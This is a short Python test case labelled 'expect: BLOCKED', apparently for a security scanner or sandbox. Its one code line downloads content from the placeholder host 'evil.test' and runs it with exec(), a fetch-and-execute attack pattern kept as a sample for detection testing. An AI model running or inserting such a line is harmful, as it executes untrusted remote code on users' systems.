# expect: BLOCKED
import urllib.request
exec(urllib.request.urlopen("http://evil.test/x").read())
